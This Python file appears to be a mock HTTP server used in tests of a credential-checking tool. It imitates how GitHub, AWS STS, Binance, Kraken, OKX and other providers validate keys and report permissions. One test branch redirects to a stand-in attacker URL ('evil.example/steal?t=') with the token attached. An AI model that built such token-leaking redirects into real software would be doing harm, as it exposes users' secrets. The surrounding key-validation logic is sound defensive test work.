"""A stand-in for providers' APIs on 127.0.0.1, for tests/verify.rs: GitHub's /user and
Binance's signed /api/v3/account with the answers their documentation gives, plus the
failures a client must survive (429 with Retry-After, 5xx, malformed JSON, a redirect to
another host). Every request is logged, so a test can see that nothing was sent.

usage: verify_server.py STATE.json LOG  (prints the port)
STATE: {"github": {"live": {TOKEN: LOGIN}, "rate": TOKEN, "error": TOKEN, "junk": TOKEN,
         "redirect": TOKEN}, "binance": {KEY: {"secret": SECRET, "withdraw": BOOL}},
        "aws": {KEY_ID: SECRET}, "bearer": {TOKEN: NAME} (SendGrid, Discord, CoinMarketCap,
        Mailgun's api:KEY), "exchanges": {KEY: {"secret": SECRET, "pass": PASS}}
        (Bybit, OKX, KuCoin, Kraken: each checks its own signature scheme)}"""
import base64, hashlib, hmac, http.server, json, sys, time, urllib.parse

state = json.load(open(sys.argv[1]))
log = open(sys.argv[2], "a", buffering=1)
rated = set()


def sigv4(secret, method, host, path, query, amz_date):
    """AWS Signature Version 4 over host and x-amz-date, as AWS's documentation gives it."""
    pairs = sorted(tuple(p.split("=", 1)) for p in query.split("&") if p)
    canonical_query = "&".join(f"{k}={v}" for k, v in pairs)
    empty = hashlib.sha256(b"").hexdigest()
    canonical = f"{method}\n{path}\n{canonical_query}\nhost:{host}\nx-amz-date:{amz_date}\n\nhost;x-amz-date\n{empty}"
    scope = f"{amz_date[:8]}/us-east-1/sts/aws4_request"
    to_sign = f"AWS4-HMAC-SHA256\n{amz_date}\n{scope}\n" + hashlib.sha256(canonical.encode()).hexdigest()
    key = ("AWS4" + secret).encode()
    for part in (amz_date[:8], "us-east-1", "sts", "aws4_request"):
        key = hmac.new(key, part.encode(), hashlib.sha256).digest()
    return hmac.new(key, to_sign.encode(), hashlib.sha256).hexdigest()


class Handler(http.server.BaseHTTPRequestHandler):
    def log_message(self, *args):
        pass

    def reply(self, status, body, headers=()):
        data = body if isinstance(body, bytes) else json.dumps(body).encode()
        self.send_response(status)
        for k, v in headers:
            self.send_header(k, v)
        self.send_header("Content-Length", str(len(data)))
        self.end_headers()
        self.wfile.write(data)

    def do_GET(self):
        log.write(json.dumps({"path": self.path, "headers": dict(self.headers)}) + "\n")
        url = urllib.parse.urlsplit(self.path)
        if url.path == "/user":
            return self.github()
        if url.path in ("/api/v3/account", "/sapi/v1/account/apiRestrictions"):
            return self.binance(url)
        if url.path == "/" and "Action=GetCallerIdentity" in url.query:
            return self.sts(url)
        if url.path in ("/v3/scopes", "/v3/domains", "/api/v10/users/@me", "/v1/key/info"):
            return self.bearer(url.path)
        if url.path == "/api/v3/brokerage/key_permissions":
            token = self.headers.get("Authorization", "").removeprefix("Bearer ")
            if token.count(".") != 2:
                return self.reply(401, {"error": "unauthorized"})
            # The test checks the JWT's signature with the key's public half, from this log.
            return self.reply(200, {"can_view": True, "can_trade": True, "can_transfer": True,
                                    "portfolio_uuid": "8a2f3c7e", "portfolio_type": "DEFAULT"})
        if url.path.startswith("/2010-04-01/Accounts"):
            return self.twilio(url.path)
        if url.path == "/v5/user/query-api":
            return self.bybit()
        if url.path == "/api/v5/account/config":
            return self.okx(url.path)
        if url.path == "/api/v1/user/api-key":
            return self.kucoin(url.path)
        self.reply(404, {"message": "Not Found"})

    def github(self):
        g = state["github"]
        token = self.headers.get("Authorization", "").removeprefix("Bearer ")
        if token == g.get("rate") and token not in rated:
            rated.add(token)
            return self.reply(429, {"message": "slow down"}, [("Retry-After", "1")])
        if token == g.get("slow"):
            time.sleep(3)
        if token == g.get("error"):
            return self.reply(502, {"message": "bad gateway"})
        if token == g.get("junk"):
            return self.reply(200, b"<html>not json</html>")
        if token == g.get("redirect"):
            # Quoting the token, as a careless proxy might: keyhound must not repeat it.
            return self.reply(302, b"", [("Location", "https://evil.example/steal?t=" + token)])
        login = g["live"].get(token)
        if login is None:
            return self.reply(401, {"message": "Bad credentials"})
        self.reply(200, {"login": login, "id": 1}, [("X-OAuth-Scopes", "repo, read:org")])

    def do_POST(self):
        body = self.rfile.read(int(self.headers.get("Content-Length", "0") or 0)).decode()
        log.write(json.dumps({"path": self.path, "headers": dict(self.headers), "body": body}) + "\n")
        if self.path == "/0/private/Balance":
            return self.kraken(body)
        self.reply(404, {"error": ["not found"]})

    def twilio(self, path):
        auth = self.headers.get("Authorization", "").removeprefix("Basic ")
        user, _, secret = base64.b64decode(auth).decode().partition(":")
        if state.get("twilio", {}).get(user) != secret:
            return self.reply(401, {"code": 20003, "message": "Authenticate"})
        account = {"sid": "AC" + "0" * 32, "friendly_name": "Acme prod", "status": "active"}
        if path.endswith("/Accounts.json"):
            return self.reply(200, {"accounts": [account]})
        self.reply(200, account)

    def exchange(self, key):
        return state.get("exchanges", {}).get(key)

    def bybit(self):
        h = self.headers
        account = self.exchange(h.get("X-BAPI-API-KEY", ""))
        if account is None:
            return self.reply(200, {"retCode": 10003, "retMsg": "API key is invalid."})
        payload = h.get("X-BAPI-TIMESTAMP", "") + h["X-BAPI-API-KEY"] + h.get("X-BAPI-RECV-WINDOW", "")
        want = hmac.new(account["secret"].encode(), payload.encode(), hashlib.sha256).hexdigest()
        if h.get("X-BAPI-SIGN") != want:
            return self.reply(200, {"retCode": 10004, "retMsg": "error sign!"})
        self.reply(200, {"retCode": 0, "result": {"readOnly": 0, "ips": ["203.0.113.7"], "userID": 24617703,
                         "permissions": {"Spot": ["SpotTrade"], "Wallet": ["AccountTransfer", "Withdraw"]}}})

    def okx(self, path):
        h = self.headers
        account = self.exchange(h.get("OK-ACCESS-KEY", ""))
        if account is None:
            return self.reply(401, {"code": "50111", "msg": "Invalid OK-ACCESS-KEY"})
        prehash = h.get("OK-ACCESS-TIMESTAMP", "") + "GET" + path
        want = base64.b64encode(hmac.new(account["secret"].encode(), prehash.encode(), hashlib.sha256).digest()).decode()
        if h.get("OK-ACCESS-SIGN") != want:
            return self.reply(401, {"code": "50113", "msg": "Invalid Sign"})
        if h.get("OK-ACCESS-PASSPHRASE") != account["pass"]:
            return self.reply(401, {"code": "50105", "msg": "Your OK-ACCESS-PASSPHRASE is incorrect."})
        self.reply(200, {"code": "0", "data": [{"uid": "44705892343619584", "perm": "read_only,trade", "ip": ""}]})

    def kucoin(self, path):
        h = self.headers
        account = self.exchange(h.get("KC-API-KEY", ""))
        if account is None:
            return self.reply(401, {"code": "400003", "msg": "KC-API-KEY not exists"})
        secret = account["secret"].encode()
        sign = lambda m: base64.b64encode(hmac.new(secret, m.encode(), hashlib.sha256).digest()).decode()
        if h.get("KC-API-SIGN") != sign(h.get("KC-API-TIMESTAMP", "") + "GET" + path):
            return self.reply(401, {"code": "400005", "msg": "Invalid KC-API-SIGN"})
        if h.get("KC-API-PASSPHRASE") != sign(account["pass"]) or h.get("KC-API-KEY-VERSION") != "2":
            return self.reply(401, {"code": "400004", "msg": "Invalid KC-API-PASSPHRASE"})
        self.reply(200, {"code": "200000", "data": {"uid": 165111215, "permission": "General,Spot,Withdrawal",
                                                    "ipWhitelist": ""}})

    def kraken(self, body):
        h = self.headers
        account = self.exchange(h.get("API-Key", ""))
        if account is None:
            return self.reply(200, {"error": ["EAPI:Invalid key"]})
        nonce = urllib.parse.parse_qs(body).get("nonce", [""])[0]
        message = b"/0/private/Balance" + hashlib.sha256((nonce + body).encode()).digest()
        want = base64.b64encode(hmac.new(base64.b64decode(account["secret"]), message, hashlib.sha512).digest()).decode()
        if h.get("API-Sign") != want:
            return self.reply(200, {"error": ["EAPI:Invalid signature"]})
        self.reply(200, {"error": [], "result": {"ZUSD": "171288.6158"}})

    def sts(self, url):
        auth = self.headers.get("Authorization", "")
        amz_date = self.headers.get("X-Amz-Date", "")
        try:
            key_id = auth.split("Credential=")[1].split("/")[0]
            signature = auth.split("Signature=")[1]
        except IndexError:
            return self.reply(400, b"<Error><Code>IncompleteSignature</Code></Error>")
        secret = state.get("aws", {}).get(key_id)
        if secret is None:
            return self.reply(403, b"<ErrorResponse><Error><Code>InvalidClientTokenId</Code></Error></ErrorResponse>")
        want = sigv4(secret, "GET", self.headers["Host"], url.path, url.query, amz_date)
        if signature != want:
            return self.reply(403, b"<ErrorResponse><Error><Code>SignatureDoesNotMatch</Code></Error></ErrorResponse>")
        self.reply(200, f"<GetCallerIdentityResponse><GetCallerIdentityResult><Arn>arn:aws:iam::123456789012:user/{key_id[-4:]}</Arn><UserId>X</UserId><Account>123456789012</Account></GetCallerIdentityResult></GetCallerIdentityResponse>".encode())

    def bearer(self, path):
        auth = self.headers.get("Authorization", "") or self.headers.get("X-CMC_PRO_API_KEY", "")
        token = auth.split(" ", 1)[-1]
        if auth.startswith("Basic "):
            import base64
            token = base64.b64decode(token).decode().removeprefix("api:")
        name = state.get("bearer", {}).get(token)
        if name is None:
            return self.reply(401, {"errors": [{"message": "authorization required"}]})
        if path == "/v3/scopes":
            return self.reply(200, {"scopes": ["mail.send", "alerts.read"]})
        if path == "/v3/domains":
            return self.reply(200, {"items": [{"name": name}]})
        if path == "/v1/key/info":
            return self.reply(200, {"data": {"plan": {"credit_limit_monthly": 10000},
                                             "usage": {"current_month": {"credits_left": 9321}}}})
        self.reply(200, {"username": name, "bot": True})

    def binance(self, url):
        key = self.headers.get("X-MBX-APIKEY", "")
        account = state["binance"].get(key)
        if account is None:
            return self.reply(401, {"code": -2015, "msg": "Invalid API-key, IP, or permissions for action."})
        query, _, signature = url.query.rpartition("&signature=")
        want = hmac.new(account["secret"].encode(), query.encode(), hashlib.sha256).hexdigest()
        params = urllib.parse.parse_qs(query)
        if signature != want or "timestamp" not in params:
            return self.reply(400, {"code": -1022, "msg": "Signature for this request is not valid."})
        if url.path.endswith("apiRestrictions"):
            return self.reply(200, {"ipRestrict": False, "enableWithdrawals": account["withdraw"]})
        self.reply(200, {"canTrade": True, "canWithdraw": account["withdraw"], "canDeposit": True,
                         "permissions": ["SPOT"], "uid": 354937868})


server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
print(server.server_port, flush=True)
server.serve_forever()
